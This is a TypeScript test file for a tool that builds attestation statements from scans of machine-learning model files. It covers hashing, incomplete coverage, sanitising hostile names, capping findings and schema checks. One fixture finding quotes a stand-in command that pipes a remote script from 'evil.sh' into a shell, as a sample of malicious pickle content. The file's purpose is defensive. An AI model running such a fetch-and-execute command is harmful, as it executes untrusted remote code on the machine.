import { describe, expect, it } from 'vitest';
import { checkStatement } from '../schemas/validate.js';
import { buildModelScanStatement } from './build.js';
import { fakeResult, SCANNER } from './fixtures.test-support.js';

const NOW = new Date('2026-01-02T03:04:05.000Z');

describe('model-scan statement', () => {
  it('has every hashed artifact as a subject and validates', () => {
    const results = [
      fakeResult('hf://org/repo@abc/model.bin', 'weights', {
        verdict: 'malicious',
        findings: [
          {
            ruleId: 'PICKLE-OS-EXEC',
            severity: 'critical',
            message: 'calls posix.system("curl evil.sh | sh")',
            evidence: 'SECRET-ARGUMENT-VALUE',
            callable: 'posix.system',
            location: { member: 'archive/data.pkl', offset: 12 },
          },
        ],
      }),
      fakeResult('hf://org/repo@abc/config.json', '{}', { format: 'json' }),
    ];
    const st = buildModelScanStatement(
      results,
      { decision: 'block', riskScore: 97, policy: { id: 'default', sha256: 'sha256:' + 'AB'.repeat(32) } },
      { reference: 'hf://org/repo@abc', registry: 'huggingface', version: 'abc' },
      SCANNER,
      NOW,
    );
    expect(checkStatement(st)).toEqual({ ok: true });
    expect(st.subject.map((s) => s.name)).toEqual([
      'hf://org/repo@abc/model.bin',
      'hf://org/repo@abc/config.json',
    ]);
    expect(st.subject[0]!.digest.sha256).toBe(results[0]!.sha256);
    expect(st.predicate).toMatchObject({
      verdict: 'malicious',
      decision: 'block',
      riskScore: 97,
      policy: { id: 'default', sha256: 'ab'.repeat(32) },
    });
    expect(st.predicate.findings).toEqual([
      {
        ruleId: 'PICKLE-OS-EXEC',
        severity: 'critical',
        artifact: 'hf://org/repo@abc/model.bin',
        member: 'archive/data.pkl',
        offset: 12,
        callable: 'posix.system',
      },
    ]);
    const text = JSON.stringify(st);
    expect(text).not.toContain('SECRET-ARGUMENT-VALUE');
    expect(text).not.toContain('curl');
    expect(st.predicate.startedOn).toBe('2026-01-02T03:04:04.994Z');
  });

  it('keeps unhashed artifacts out of the subject and marks coverage incomplete', () => {
    const r = fakeResult('/m/broken.bin', 'x', { sha256: null, verdict: 'inconclusive' });
    r.coverage = {
      complete: false,
      scanned: [],
      data: [],
      issues: [{ member: '', code: 'IO_ERROR', message: 'EIO' }],
      unlisted: 0,
    };
    const st = buildModelScanStatement(
      [r, fakeResult('/m/ok.bin', 'y')],
      undefined,
      { reference: '/m' },
      SCANNER,
      NOW,
    );
    expect(checkStatement(st)).toEqual({ ok: true });
    expect(st.subject.map((s) => s.name)).toEqual(['/m/ok.bin']);
    expect(st.predicate).toMatchObject({
      verdict: 'inconclusive',
      decision: null,
      policy: null,
      riskScore: null,
    });
    expect(st.predicate.coverage).toMatchObject({
      complete: false,
      issues: [{ artifact: '/m/broken.bin', member: '', code: 'IO_ERROR' }],
    });
  });

  it('an empty model version is inconclusive, never clean', () => {
    const st = buildModelScanStatement([], undefined, { reference: '/empty' }, SCANNER, NOW);
    expect(checkStatement(st)).toEqual({ ok: true });
    expect(st.predicate.verdict).toBe('inconclusive');
    expect(st.predicate.coverage.complete).toBe(false);
  });

  it('trims hostile names and caps findings, most severe first', () => {
    const long = 'a/'.repeat(2000) + '\u0000\n.pkl';
    const findings = Array.from({ length: 1500 }, (_, i) => ({
      ruleId: i === 1499 ? 'WORST RULE!' : 'PICKLE-GLOBAL',
      severity: i === 1499 ? ('critical' as const) : ('low' as const),
      message: 'm',
      callable: 'x'.repeat(1000),
      location: { member: long },
    }));
    const st = buildModelScanStatement(
      [fakeResult(long, 'z', { findings })],
      undefined,
      { reference: long },
      SCANNER,
      NOW,
    );
    expect(checkStatement(st)).toEqual({ ok: true });
    expect(st.predicate.findings).toHaveLength(1000);
    expect(st.predicate.findingsOmitted).toBe(500);
    expect(st.predicate.findings[0]).toMatchObject({ ruleId: 'WORST_RULE_', severity: 'critical' });
    expect(Array.from(st.subject[0]!.name)).toHaveLength(1024);
    expect([...st.subject[0]!.name].some((c) => c.charCodeAt(0) < 0x20)).toBe(false);
  });

  it('the schema rejects extra fields and unbounded strings', () => {
    const st = buildModelScanStatement([fakeResult('/a', 'a')], undefined, { reference: '/a' }, SCANNER, NOW);
    expect(checkStatement({ ...st, predicate: { ...st.predicate, leaked: 'x' } }).ok).toBe(false);
    expect(
      checkStatement({ ...st, subject: [{ name: 'x'.repeat(1025), digest: st.subject[0]!.digest }] }).ok,
    ).toBe(false);
    expect(
      checkStatement({
        ...st,
        predicate: {
          ...st.predicate,
          findings: [{ ruleId: 'R', severity: 'high', artifact: '/a', message: 'no' }],
        },
      }).ok,
    ).toBe(false);
  });

  it('rejects a policy digest that is not SHA-256', () => {
    expect(() =>
      buildModelScanStatement(
        [],
        { decision: 'allow', riskScore: 0, policy: { id: 'p', sha256: 'nope' } },
        { reference: '/' },
        SCANNER,
        NOW,
      ),
    ).toThrow(/policy sha256/);
  });
});
